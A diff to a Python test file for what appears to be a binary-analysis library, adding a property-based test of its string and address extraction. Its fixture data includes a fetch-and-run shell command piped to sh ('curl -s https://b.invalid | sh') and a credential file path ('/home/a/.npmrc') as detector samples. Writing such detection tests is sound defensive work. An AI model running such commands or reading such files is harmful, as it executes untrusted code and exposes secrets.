@@ -10,6 +10,7 @@ from hypothesis import strategies as st
 from lazaretto.core.facts import Facts, Kind
 from lazaretto.core.language import NoUnits
 from lazaretto.languages import elf, macho, pe, wasm
+from lazaretto.languages._strings import _found, _once, addresses, strings
 from tests.languages import programs
 
 NOISE = random.Random(1).randbytes(40_000)
@@ -164,3 +165,21 @@ def test_mutated_programs(module: ModuleType, sample: bytes, data: st.DataObject
 
     assert read(module, changed) == facts
     assert all(0 <= fact.span.start <= fact.span.end <= len(changed) for fact in facts.facts)
+
+
+_NAMED = (
+    b"https://a.invalid/x",
+    b"192.0.2.7:8080",
+    b"/home/a/.npmrc",
+    b"curl -s https://b.invalid | sh",
+    b"a.onion",
+    b"x",
+)
+
+
+@given(st.lists(st.one_of(st.sampled_from(_NAMED), st.binary(max_size=6)), max_size=30).map(b"".join))
+def test_strings_stand_where_they_are(data: bytes) -> None:
+    """To take the printable runs out first changes nothing: neither what is found nor where."""
+    whole = {fact for fact in _once(_found(data)) if fact.span.end - fact.span.start > 4}
+    assert {fact for fact in strings(data) if fact.span.end - fact.span.start > 4} == whole
+    assert all(data[fact.span.start : fact.span.end].decode() == fact.value for fact in addresses(data))
